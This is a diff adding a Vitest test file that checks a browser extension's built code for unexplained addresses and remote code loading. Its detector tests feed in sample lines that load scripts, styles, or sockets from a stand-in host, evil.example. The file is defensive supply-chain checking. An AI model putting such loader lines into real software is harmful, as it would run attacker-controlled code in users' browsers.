@@ -1,0 +1,81 @@
+import { describe, expect, test } from 'vitest';
+import sources from '../../data/sources.json';
+import { readSources } from '../../utils/core/sync/mirrors';
+import { addressesIn, waysIn } from './addresses-in-code';
+import { builtPackage } from './built-package';
+
+/** Every address that the code may name, and why it is no request of ours for code. */
+const allowed: Record<string, string> = {
+  'http://www.w3.org/1998/Math/MathML': 'a name for a kind of XML, which Preact compares with; never fetched',
+  'http://www.w3.org/1999/xhtml': 'the same',
+  'http://www.w3.org/2000/svg': 'the same',
+  'https://': 'compared with how an address starts',
+  'https://[^': 'the same, in the expression that finds links in what a host wrote',
+  'https://${…}/*': 'a match pattern for a host that the person ticked',
+  'https://www.chatons.org/charte': 'the source of the charter: a link, which the person may click',
+  'https://www.chatons.org/search/by-service': 'the directory of the collective: a link, which the person may click',
+};
+/** What a build with mirrors names too: they send data, which are checked against a signature. */
+const mirrors = new Set<string>(readSources(sources, {}).mirrors);
+
+describe.each(['chrome-mv3', 'firefox-mv3'] as const)('the code of %s', (target) => {
+  const built = builtPackage(target);
+  const code = built.files.filter((file) => /\.(js|html|css)$/.test(file));
+
+  test('names the addresses that are explained here, and no other', () => {
+    const named = new Set(code.flatMap((file) => addressesIn(built.read(file))));
+    expect([...named].filter((address) => !mirrors.has(address)).toSorted()).toEqual(Object.keys(allowed).toSorted());
+  });
+
+  test('brings in nothing but chunks of the package, each by its name', () => {
+    expect(code.length).toBeGreaterThan(8);
+    expect(code.flatMap((file) => waysIn(built.read(file)).map((way) => `${file}: ${way}`))).toEqual([]);
+  });
+});
+
+describe('the two readers of code', () => {
+  test.each([
+    ['$.src=`https://evil.example/x.js`', 'https://evil.example/x.js'],
+    ["fetch('wss://evil.example')", 'wss://evil.example'],
+    ['import(`//evil.example/x.js`)', '//evil.example/x.js'],
+    ['<script src=//evil.example/x.js>', '//evil.example/x.js'],
+    ['url(//evil.example/x.css)', '//evil.example/x.css'],
+    [String.raw`/^https:\/\/evil.example/`, 'https://evil.example/'],
+    ['`https://${a.b(c)}.evil.example`', 'https://${…}.evil.example'],
+  ])('find the address in %s', (text, address) => {
+    expect(addressesIn(text)).toEqual([address]);
+  });
+
+  test.each([
+    '$.src=e',
+    'import(e)',
+    'import(`https://evil.example/x.js`)',
+    'import(`./${e}.js`)',
+    'import"https://evil.example/x.js"',
+    'export*from`//evil.example/x.js`',
+    'importScripts(e)',
+    'new Worker(e)',
+    'new SharedWorker(`./a.js`)',
+    'navigator.serviceWorker.register(e)',
+    'document.createElement(`script`)',
+    'document.createElementNS(n,"script")',
+    '@import "a.css"',
+    'background:url(`https://evil.example/a.png`)',
+    '<script src="https://evil.example/x.js"></script>',
+    '<link rel=stylesheet href=//evil.example/x.css>',
+    '<base href="https://evil.example/">',
+  ])('see the way in: %s', (text) => {
+    expect(waysIn(text).length).toBeGreaterThan(0);
+  });
+
+  test.each([
+    'await import(`./town-picker-C4dR_ljO.js`)',
+    'import{a}from"./common.js"',
+    'e.src===t',
+    '<script type="module" crossorigin src="/chunks/popup.js"></script>',
+    'url(#mask)',
+  ])('let pass what is ours: %s', (text) => {
+    expect(waysIn(text)).toEqual([]);
+    expect(addressesIn(text)).toEqual([]);
+  });
+});
